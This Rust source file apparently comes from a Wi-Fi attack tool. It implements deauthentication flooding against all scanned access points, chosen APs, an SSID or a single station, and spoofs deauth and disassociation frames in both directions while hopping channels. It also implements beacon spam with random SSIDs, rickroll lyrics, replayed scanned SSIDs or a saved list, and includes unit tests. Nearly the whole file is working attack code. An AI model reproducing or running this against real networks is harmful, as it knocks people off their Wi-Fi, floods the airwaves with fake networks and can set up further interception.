// Attack! //

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use libwifi::frame::components::MacAddress;
use libwifi::frame::DeauthenticationReason;
use log::{debug, info, warn};
use strum_macros::Display;

use crate::config::EngineConfig;
use crate::devices::{AccessPoint, Station};
use crate::error::EngineError;
use crate::hopper::secondary_for;
use crate::interface::{Collaborators, DriverError, RadioInterface, SecondaryChannel};
use crate::scan::ScanController;
use crate::stations::StationCorrelator;
use crate::task::{CancelToken, Worker};
use crate::tx::{
    build_beacon_frame, build_deauth_frame, build_deauth_frame_from_station, build_disassoc_frame,
    build_disassoc_frame_from_station, truncate_ssid, FrameInjector, TxOutcome,
};
use crate::util::{is_valid_ssid, random_ssid};

/// Saved beacon list capacity.
pub const MAX_BEACON_LIST: usize = 16;

pub const RICKROLL_LYRICS: [&str; 6] = [
    "Never gonna give you up",
    "Never gonna let you down",
    "Never gonna run around and desert you",
    "Never gonna make you cry",
    "Never gonna say goodbye",
    "Never gonna tell a lie and hurt you",
];

/// Channels swept by beacon spam.
const BEACON_CHANNELS: std::ops::RangeInclusive<u8> = 1..=11;
const BEACON_DWELL: Duration = Duration::from_millis(10);
const REPLAY_GAP: Duration = Duration::from_millis(10);
const CHANNEL_SETTLE: Duration = Duration::from_millis(10);
const SSID_AP_GAP: Duration = Duration::from_millis(20);

const DEAUTH_REASON: DeauthenticationReason =
    DeauthenticationReason::Class3FrameReceivedFromNonassociatedSTA;

/// Who a deauth run is aimed at.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum DeauthTarget {
    /// Every scanned AP and every station correlated to it.
    Broadcast,
    /// Only these APs, resolved from the scan when the attack started.
    Aps(Vec<AccessPoint>),
    /// Every scanned BSSID advertising this SSID.
    Ssid(String),
    /// One station, kicked from its AP on `channel`.
    Station { station: Station, channel: u8 },
}

impl DeauthTarget {
    pub fn describe(&self) -> String {
        match self {
            DeauthTarget::Broadcast => "all APs".to_string(),
            DeauthTarget::Aps(aps) => match aps.first() {
                Some(primary) if aps.len() == 1 => primary.display_ssid().to_string(),
                Some(primary) => format!("{} (+{})", primary.display_ssid(), aps.len() - 1),
                None => "nothing".to_string(),
            },
            DeauthTarget::Ssid(ssid) => ssid.clone(),
            DeauthTarget::Station { station, .. } => station.mac.to_string(),
        }
    }
}

#[derive(Clone, Debug, PartialEq, Eq, Display)]
pub enum BeaconMode {
    StaticSsid(String),
    RandomSsid,
    RickrollLyricsCycle,
    ReplayScannedSsids,
    SavedList,
}

/// Which attacks are currently running.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct AttackState {
    pub deauth: Option<DeauthTarget>,
    pub beacon: Option<BeaconMode>,
}

impl AttackState {
    pub fn is_idle(&self) -> bool {
        self.deauth.is_none() && self.beacon.is_none()
    }
}

/// What one [broadcast_deauth] call did.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct DeauthBurst {
    pub sent: u32,
    pub rate_limited: u32,
    pub failed: u32,
}

impl DeauthBurst {
    fn record(&mut self, result: Result<TxOutcome, DriverError>) {
        match result {
            Ok(TxOutcome::Sent) => self.sent += 1,
            Ok(TxOutcome::RateLimited) => self.rate_limited += 1,
            Err(e) => {
                debug!("Deauth frame dropped: {e}");
                self.failed += 1
            }
        }
    }

    pub fn attempted(&self) -> u32 {
        self.sent + self.rate_limited + self.failed
    }
}

/// Two deauths and two disassocs from `bssid` to `mac`. Unless `mac` is
/// broadcast the same burst is also spoofed from `mac` back to `bssid`.
///
/// Every frame goes through the rate limiter on its own.
pub fn broadcast_deauth(
    injector: &FrameInjector,
    bssid: &MacAddress,
    mac: &MacAddress,
) -> DeauthBurst {
    let mut burst = DeauthBurst::default();

    let deauth = build_deauth_frame(bssid, mac, DEAUTH_REASON);
    let disassoc = build_disassoc_frame(bssid, mac, DEAUTH_REASON);
    for frame in [&deauth, &deauth, &disassoc, &disassoc] {
        burst.record(injector.transmit_on(RadioInterface::SoftAp, frame));
    }

    if !mac.is_broadcast() {
        let deauth = build_deauth_frame_from_station(bssid, mac, DEAUTH_REASON);
        let disassoc = build_disassoc_frame_from_station(bssid, mac, DEAUTH_REASON);
        for frame in [&deauth, &deauth, &disassoc, &disassoc] {
            burst.record(injector.transmit_on(RadioInterface::SoftAp, frame));
        }
    }

    burst
}

/// Bounded, duplicate free list of SSIDs for [BeaconMode::SavedList].
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct BeaconList {
    entries: Vec<String>,
}

impl BeaconList {
    /// Returns `false` if the SSID was already listed.
    pub fn add(&mut self, ssid: &str) -> Result<bool, EngineError> {
        if !is_valid_ssid(ssid) {
            return Err(EngineError::invalid_target(
                "SSID must be between 1 and 32 bytes",
            ));
        }
        if self.entries.iter().any(|entry| entry == ssid) {
            info!("SSID already in beacon list: {ssid}");
            return Ok(false);
        }
        if self.entries.len() >= MAX_BEACON_LIST {
            return Err(EngineError::invalid_target(format!(
                "Beacon list full ({MAX_BEACON_LIST} entries)"
            )));
        }
        self.entries.push(ssid.to_string());
        info!("Added SSID to beacon list: {ssid}");
        Ok(true)
    }

    pub fn remove(&mut self, ssid: &str) -> bool {
        match self.entries.iter().position(|entry| entry == ssid) {
            Some(index) => {
                self.entries.remove(index);
                info!("Removed SSID from beacon list: {ssid}");
                true
            }
            None => {
                info!("SSID not found in list: {ssid}");
                false
            }
        }
    }

    pub fn clear(&mut self) {
        self.entries.clear();
        info!("Cleared beacon list");
    }

    pub fn show(&self) {
        info!("Beacon list ({} entries):", self.entries.len());
        for (index, ssid) in self.entries.iter().enumerate() {
            info!("  {index}: {ssid}");
        }
    }

    pub fn entries(&self) -> &[String] {
        &self.entries
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }
}

/// State shared between the orchestrator and its attack tasks.
struct AttackContext {
    collaborators: Collaborators,
    injector: Arc<FrameInjector>,
    scan: Arc<ScanController>,
    stations: Arc<StationCorrelator>,
    beacon_list: Arc<Mutex<BeaconList>>,
    deauth_sent: AtomicU64,
}

impl AttackContext {
    fn set_channel(&self, channel: u8, secondary: SecondaryChannel) {
        if let Err(e) = self.collaborators.radio.set_channel(channel, secondary) {
            warn!("Failed to set channel {channel}: {e}");
        }
    }

    fn deauth(&self, bssid: &MacAddress, mac: &MacAddress) {
        let burst = broadcast_deauth(&self.injector, bssid, mac);
        debug!("Deauth {bssid} -> {mac}: {}/{} sent", burst.sent, burst.attempted());
        self.deauth_sent
            .fetch_add(u64::from(burst.sent), Ordering::Relaxed);
    }

    /// Kick everyone off `ap`: broadcast first, then each known station.
    fn deauth_ap(&self, ap: &AccessPoint) {
        self.deauth(&ap.bssid, &MacAddress::broadcast());
        for station in self.stations.stations_for(&ap.bssid) {
            self.deauth(&ap.bssid, &station.mac);
        }
    }

    /// Visit each channel once and hit every AP on it.
    fn deauth_by_channel(&self, aps: &[AccessPoint], token: &CancelToken) -> bool {
        let mut by_channel: BTreeMap<u8, Vec<&AccessPoint>> = BTreeMap::new();
        for ap in aps {
            by_channel.entry(ap.channel).or_default().push(ap);
        }

        for (channel, aps) in by_channel {
            if token.is_cancelled() {
                return false;
            }
            self.set_channel(channel, secondary_for(channel));
            for ap in aps {
                self.deauth_ap(ap);
            }
            if !token.sleep(CHANNEL_SETTLE) {
                return false;
            }
        }
        true
    }

    fn deauth_round(&self, target: &DeauthTarget, token: &CancelToken) -> bool {
        match target {
            DeauthTarget::Broadcast => self.deauth_by_channel(&self.scan.results(), token),
            DeauthTarget::Aps(aps) => self.deauth_by_channel(aps, token),
            DeauthTarget::Ssid(ssid) => {
                let results = self.scan.results();
                for ap in results.iter().filter(|ap| &ap.ssid == ssid) {
                    self.set_channel(ap.channel, secondary_for(ap.channel));
                    self.deauth_ap(ap);
                    if !token.sleep(SSID_AP_GAP) {
                        return false;
                    }
                }
                true
            }
            DeauthTarget::Station { station, .. } => {
                self.deauth(&station.bssid, &station.mac);
                true
            }
        }
    }

    fn run_deauth(&self, target: DeauthTarget, token: CancelToken, tick: Duration, report: Duration) {
        if let DeauthTarget::Station { channel, .. } = &target {
            self.set_channel(*channel, SecondaryChannel::None);
        }

        let mut last_report = Instant::now();
        let mut reported = self.deauth_sent.load(Ordering::Relaxed);
        loop {
            if !self.deauth_round(&target, &token) || !token.sleep(tick) {
                break;
            }

            let elapsed = last_report.elapsed();
            if elapsed >= report {
                let total = self.deauth_sent.load(Ordering::Relaxed);
                let per_sec = (total - reported) / elapsed.as_secs().max(1);
                info!("{per_sec} packets/sec");
                reported = total;
                last_report = Instant::now();
            }
        }
    }

    /// One beacon for `ssid` on every sweep channel, each from a fresh MAC.
    /// With a client on the SoftAP the radio stays on its current channel.
    fn broadcast_ap(&self, ssid: &str, token: &CancelToken) -> bool {
        let radio = &self.collaborators.radio;

        if radio.ap_client_has_ip() {
            let channel = radio.channel().unwrap_or(1);
            self.send_beacon(ssid, channel);
            return token.sleep(BEACON_DWELL);
        }

        for channel in BEACON_CHANNELS {
            self.set_channel(channel, SecondaryChannel::None);
            self.send_beacon(ssid, channel);
            if !token.sleep(BEACON_DWELL) {
                return false;
            }
        }
        true
    }

    fn send_beacon(&self, ssid: &str, channel: u8) {
        let frame = build_beacon_frame(ssid, &MacAddress::random(), channel);
        if let Err(e) = self.injector.transmit_on(RadioInterface::SoftAp, &frame) {
            debug!("Beacon for {ssid} dropped: {e}");
        }
    }

    fn run_beacon(&self, mode: BeaconMode, token: CancelToken) {
        let mut line = 0usize;
        loop {
            let speed = self.collaborators.settings.broadcast_speed();
            let keep_going = match &mode {
                BeaconMode::StaticSsid(ssid) => {
                    self.broadcast_ap(ssid, &token) && token.sleep(speed)
                }
                BeaconMode::RandomSsid => {
                    self.broadcast_ap(&random_ssid(), &token) && token.sleep(speed)
                }
                BeaconMode::RickrollLyricsCycle => {
                    let lyric = RICKROLL_LYRICS[line];
                    line = (line + 1) % RICKROLL_LYRICS.len();
                    self.broadcast_ap(lyric, &token) && token.sleep(speed)
                }
                BeaconMode::ReplayScannedSsids => {
                    let results = self.scan.results();
                    results
                        .iter()
                        .filter(|ap| !ap.is_hidden())
                        .all(|ap| self.broadcast_ap(&ap.ssid, &token) && token.sleep(REPLAY_GAP))
                        && token.sleep(speed)
                }
                BeaconMode::SavedList => {
                    let entries = match self.beacon_list.lock() {
                        Ok(list) => list.entries().to_vec(),
                        Err(_) => Vec::new(),
                    };
                    if entries.is_empty() {
                        token.sleep(speed)
                    } else {
                        entries
                            .iter()
                            .all(|ssid| self.broadcast_ap(ssid, &token) && token.sleep(speed))
                    }
                }
            };
            if !keep_going {
                break;
            }
        }
    }
}

struct RunningAttack<T> {
    worker: Worker,
    target: T,
}

/// Deauth and beacon spam on top of the injector, scan results and
/// station list.
pub struct AttackOrchestrator {
    context: Arc<AttackContext>,
    config: EngineConfig,
    deauth: Mutex<Option<RunningAttack<DeauthTarget>>>,
    beacon: Mutex<Option<RunningAttack<BeaconMode>>>,
}

impl AttackOrchestrator {
    pub fn new(
        collaborators: Collaborators,
        injector: Arc<FrameInjector>,
        scan: Arc<ScanController>,
        stations: Arc<StationCorrelator>,
        config: EngineConfig,
    ) -> Self {
        AttackOrchestrator {
            context: Arc::new(AttackContext {
                collaborators,
                injector,
                scan,
                stations,
                beacon_list: Arc::new(Mutex::new(BeaconList::default())),
                deauth_sent: AtomicU64::new(0),
            }),
            config,
            deauth: Mutex::new(None),
            beacon: Mutex::new(None),
        }
    }

    pub fn state(&self) -> AttackState {
        AttackState {
            deauth: self.deauth_target(),
            beacon: self
                .beacon
                .lock()
                .ok()
                .and_then(|beacon| beacon.as_ref().map(|running| running.target.clone())),
        }
    }

    pub fn deauth_target(&self) -> Option<DeauthTarget> {
        self.deauth
            .lock()
            .ok()
            .and_then(|deauth| deauth.as_ref().map(|running| running.target.clone()))
    }

    /// Deauth frames sent since the orchestrator was created.
    pub fn deauth_packets_sent(&self) -> u64 {
        self.context.deauth_sent.load(Ordering::Relaxed)
    }

    pub fn start_deauth(&self, target: DeauthTarget) -> Result<(), EngineError> {
        let mut slot = self
            .deauth
            .lock()
            .map_err(|_| EngineError::Busy("Deauth"))?;
        if slot.is_some() {
            info!("Deauth already running.");
            return Err(EngineError::Busy("Deauth"));
        }

        let results = self.context.scan.results();
        match &target {
            DeauthTarget::Broadcast if results.is_empty() => {
                return Err(EngineError::invalid_target(
                    "No access points found, run a scan first",
                ));
            }
            DeauthTarget::Aps(aps) if aps.is_empty() => {
                return Err(EngineError::invalid_target("No access points selected"));
            }
            DeauthTarget::Ssid(ssid) if !results.iter().any(|ap| &ap.ssid == ssid) => {
                return Err(EngineError::invalid_target(format!(
                    "No scanned access point uses SSID {ssid}"
                )));
            }
            _ => {}
        }

        match &target {
            DeauthTarget::Broadcast => info!("Starting global deauth attack on all APs"),
            DeauthTarget::Aps(aps) => {
                info!("Starting deauth attack on {} selected APs:", aps.len());
                for (index, ap) in aps.iter().enumerate() {
                    info!("  [{index}] {} ({})", ap.display_ssid(), ap.bssid);
                }
            }
            DeauthTarget::Ssid(ssid) => info!("Starting deauth attack on SSID {ssid}"),
            DeauthTarget::Station { station, channel } => info!(
                "Deauthing station {} from AP {} on channel {channel}",
                station.mac, station.bssid
            ),
        }
        self.context
            .collaborators
            .display
            .show_attack("Deauth", &target.describe());

        let context = self.context.clone();
        let worker_target = target.clone();
        let tick = self.config.deauth_interval;
        let report = self.config.deauth_report_interval;
        let worker = Worker::spawn("deauth", move |token| {
            context.run_deauth(worker_target, token, tick, report)
        })?;

        *slot = Some(RunningAttack { worker, target });
        Ok(())
    }

    /// Returns whether a deauth was running.
    pub fn stop_deauth(&self) -> bool {
        let running = self.deauth.lock().ok().and_then(|mut slot| slot.take());
        let display = &self.context.collaborators.display;
        match running {
            Some(running) => {
                info!("Stopping deauth transmission...");
                running.worker.stop(self.config.stop_grace);
                display.show_status("Deauth Stopped");
                true
            }
            None => {
                display.show_status("No Deauth Active");
                false
            }
        }
    }

    pub fn start_beacon(&self, mode: BeaconMode) -> Result<(), EngineError> {
        let mut slot = self
            .beacon
            .lock()
            .map_err(|_| EngineError::Busy("Beacon"))?;
        if slot.is_some() {
            info!("Beacon transmission already running.");
            self.context
                .collaborators
                .display
                .show_status("Beacon Active");
            return Err(EngineError::Busy("Beacon"));
        }

        let label = match &mode {
            BeaconMode::StaticSsid(ssid) => {
                if ssid.is_empty() {
                    return Err(EngineError::invalid_target("SSID must not be empty"));
                }
                truncate_ssid(ssid).to_string()
            }
            BeaconMode::RandomSsid => "random SSIDs".to_string(),
            BeaconMode::RickrollLyricsCycle => "rickroll".to_string(),
            BeaconMode::ReplayScannedSsids => {
                if self.context.scan.results().is_empty() {
                    return Err(EngineError::invalid_target(
                        "No access points found, run a scan first",
                    ));
                }
                "scanned SSIDs".to_string()
            }
            BeaconMode::SavedList => {
                let count = self
                    .context
                    .beacon_list
                    .lock()
                    .map(|list| list.len())
                    .unwrap_or(0);
                if count == 0 {
                    return Err(EngineError::invalid_target("No SSIDs in beacon list"));
                }
                format!("beacon list ({count} SSIDs)")
            }
        };

        info!("Starting beacon transmission: {label}");
        self.context
            .collaborators
            .display
            .show_attack("Beacon", &label);

        let context = self.context.clone();
        let worker_mode = mode.clone();
        let worker = Worker::spawn("beacon", move |token| {
            context.run_beacon(worker_mode, token)
        })?;

        *slot = Some(RunningAttack {
            worker,
            target: mode,
        });
        Ok(())
    }

    pub fn stop_beacon(&self) -> bool {
        let running = self.beacon.lock().ok().and_then(|mut slot| slot.take());
        let display = &self.context.collaborators.display;
        match running {
            Some(running) => {
                info!("Stopping beacon transmission...");
                running.worker.stop(self.config.stop_grace);
                display.show_status("Beacon Stopped");
                true
            }
            None => {
                display.show_status("No Beacon Active");
                false
            }
        }
    }

    /// Shared handle to the saved beacon list.
    pub fn beacon_list(&self) -> Arc<Mutex<BeaconList>> {
        self.context.beacon_list.clone()
    }

    pub fn stop_all(&self) {
        if self.deauth_target().is_some() {
            self.stop_deauth();
        }
        if self.state().beacon.is_some() {
            self.stop_beacon();
        }
    }
}

impl Drop for AttackOrchestrator {
    fn drop(&mut self) {
        self.stop_all();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_beacon_list_rules() {
        let mut list = BeaconList::default();
        assert!(list.add("CoffeeNet").unwrap());
        assert!(!list.add("CoffeeNet").unwrap());
        assert!(list.add("").is_err());
        assert!(list.add(&"x".repeat(33)).is_err());

        for i in 1..MAX_BEACON_LIST {
            list.add(&format!("net{i}")).unwrap();
        }
        assert_eq!(list.len(), MAX_BEACON_LIST);
        assert!(list.add("one too many").is_err());

        assert!(list.remove("CoffeeNet"));
        assert!(!list.remove("CoffeeNet"));
        assert_eq!(list.entries()[0], "net1");
        list.clear();
        assert!(list.is_empty());
    }

    #[test]
    fn test_describe_target() {
        let ap = AccessPoint::new(MacAddress([0, 1, 2, 3, 4, 5]), "", 6, -50);
        assert_eq!(DeauthTarget::Broadcast.describe(), "all APs");
        assert_eq!(DeauthTarget::Aps(vec![ap.clone()]).describe(), "(Hidden)");
        assert_eq!(
            DeauthTarget::Aps(vec![ap.clone(), ap]).describe(),
            "(Hidden) (+1)"
        );
    }

    #[test]
    fn test_rickroll_has_six_lines() {
        assert_eq!(RICKROLL_LYRICS.len(), 6);
        assert_eq!(
            truncate_ssid(RICKROLL_LYRICS[2]),
            "Never gonna run around and deser"
        );
    }
}
